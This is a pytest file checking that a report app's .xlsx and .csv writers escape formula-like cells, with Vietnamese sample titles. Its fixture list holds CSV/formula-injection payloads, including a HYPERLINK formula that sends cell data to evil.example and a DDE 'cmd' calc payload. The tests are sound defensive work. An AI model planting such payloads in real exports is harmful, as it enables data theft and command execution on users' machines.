"""Hostile titles and tasks in every export: a cell that opens like a formula is text in .xlsx and escaped in .csv,
in the files the CLIs write and in the app's downloads (the same writers)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from reports.model import Report, Table
from reports.writers import to_csv_bytes, to_xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "=1+1",
    "+84 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "- Tuyên truyền, quán triệt Nghị quyết",
]
TABLE = Table(
    "=Bảng",
    ("=Cột", "Nội dung", "Số"),
    (
        *((text, f"Nhiệm vụ {n}", -n) for n, text in enumerate(HOSTILE, start=1)),
        ("Đảng ủy Khối", "bình thường", 0),
    ),
)
REPORT = Report('=HYPERLINK("http://evil.example")', "+tiêu đề phụ", date(2026, 11, 23), tables=(TABLE,))


def test_no_xlsx_cell_is_a_formula_and_each_keeps_its_text() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx_bytes(REPORT)))
    cells = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells if isinstance(c.value, str)]
    for text in [*HOSTILE, REPORT.title, "+tiêu đề phụ", "=Cột"]:
        assert text in values
    hostile = [c for c in cells if isinstance(c.value, str) and c.value in HOSTILE]
    assert len(hostile) == len(HOSTILE) and all(c.quotePrefix for c in hostile)


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_csv_cell_is_escaped_with_a_quote(text: str) -> None:
    rows = _csv_rows(to_csv_bytes(TABLE))
    assert rows[0][0] == "'=Cột"
    assert ["'" + text, *rows[HOSTILE.index(text) + 1][1:]] == rows[HOSTILE.index(text) + 1]


def test_the_report_csv_escapes_its_title_summary_and_table_names() -> None:
    rows = _csv_rows(to_csv_bytes(REPORT))
    assert rows[:2] == [["'" + REPORT.title], ["'+tiêu đề phụ"]]
    assert ["'=Bảng"] in rows and ["'=Cột", "Nội dung", "Số"] in rows


def test_plain_text_and_negative_numbers_are_left_as_they_are() -> None:
    rows = _csv_rows(to_csv_bytes(TABLE))
    assert rows[-1] == ["Đảng ủy Khối", "bình thường", "0"]
    assert rows[1][2] == "-1"
